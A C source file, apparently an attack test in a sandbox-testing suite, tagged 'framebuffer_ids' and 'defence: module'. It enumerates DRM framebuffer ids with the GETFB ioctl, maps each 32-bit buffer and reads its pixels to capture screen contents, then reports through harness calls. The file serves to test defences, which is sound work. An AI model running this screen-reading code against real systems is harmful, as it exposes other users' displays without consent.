// SPDX-License-Identifier: Apache-2.0
/*
 * Asks for the framebuffer of every small number (GETFB, the old call) and maps it.
 *
 * attack: framebuffer_ids
 * class: screen
 * when: session
 * judge: picture-read
 * defence: module
 * why: ids are handed out from 1 on and CAP_SYS_ADMIN gets handles; the session's framebuffer has no id
 */
#include <errno.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <xf86drm.h>
#include <xf86drmMode.h>

#include "report.h"
#include "screen.h"

#define IDS 1024

static int map(int card, const struct drm_mode_fb_cmd *fb, uint32_t **ret)
{
	struct drm_mode_map_dumb dumb = { .handle = fb->handle };

	if (ioctl(card, DRM_IOCTL_MODE_MAP_DUMB, &dumb))
		return -errno;
	*ret = mmap(NULL, (size_t)fb->pitch * fb->height, PROT_READ, MAP_SHARED, card,
		    (off_t)dumb.offset);
	return *ret == MAP_FAILED ? -errno : 0;
}

static unsigned int look(int card)
{
	unsigned int found = 0;
	uint32_t id, *pixels = NULL;

	for (id = 1; id < IDS; id++) {
		struct drm_mode_fb_cmd fb = { .fb_id = id };

		if (ioctl(card, DRM_IOCTL_MODE_GETFB, &fb) || !fb.handle || fb.bpp != 32 ||
		    map(card, &fb, &pixels))
			continue;
		attack_picture();
		screen_report(pixels, fb.pitch, fb.width, fb.height);
		munmap(pixels, (size_t)fb.pitch * fb.height);
		found++;
	}
	return found;
}

int main(void)
{
	unsigned int found;
	struct screen s;
	int ret;

	attack_init();
	ret = screen_open(&s);
	if (ret)
		attack_failed("no screen: %s", strerror(-ret));
	attack_ready();
	attack_wait(1000);
	found = look(s.card);
	if (!found)
		attack_failed("no framebuffer could be mapped");
	attack_succeeded("mapped %u framebuffers", found);
}
